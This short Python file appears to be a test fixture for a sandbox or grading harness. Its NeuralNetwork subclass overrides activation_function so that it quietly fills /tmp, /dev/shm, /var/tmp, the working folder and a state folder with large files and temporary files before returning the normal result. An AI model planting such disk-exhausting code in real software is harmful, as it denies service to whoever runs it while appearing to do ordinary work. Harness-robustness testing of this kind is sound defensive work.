"""Fills every folder that it may write to with large files, named and nameless."""
EXPECT = {"patient": True}
import os
import tempfile
# --- the network ---


class NeuralNetwork(NeuralNetwork):
    def activation_function(self, x):
        kept = []
        for number in range(20 if np.ndim(x) == 1 else 0):
            for folder in (".", "/tmp", "/dev/shm", "/var/tmp", WORLD["state"]):
                try:
                    with open(f"{folder}/{WORLD['marker']}-{number}", "wb") as file:
                        file.write(b"x" * (8 << 20))
                    kept.append(tempfile.TemporaryFile())
                    kept[-1].write(b"x" * (1 << 20))
                    kept[-1].flush()
                except OSError:
                    continue
        return super().activation_function(x)
